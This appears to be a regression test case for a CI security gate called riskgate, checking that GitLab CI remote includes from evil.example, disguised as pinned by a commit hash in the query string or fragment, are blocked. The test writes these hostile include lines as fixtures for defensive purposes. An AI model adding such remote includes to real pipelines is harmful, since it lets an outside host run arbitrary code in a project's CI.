# attack: a remote include (top level, or a child pipeline's `trigger: include:`) names a 40-hex commit SHA only in its query string or fragment, which riskgate took for a pinned URL while the server sends whatever it likes
# surface: staged, range (CI)
# expect: block
base_repo
sha=0123456789abcdef0123456789abcdef01234567
write .gitlab-ci.yml 'include:' "  - remote: https://evil.example/ci.yml?pin=/$sha/"
git add -A
gate block check --staged
write .gitlab-ci.yml 'deploy:' '  trigger:' "    include: https://evil.example/ci.yml#/$sha/x"
git add -A
gate block check --staged
commit change
export CI=true
gate block check --base "$base" --head HEAD
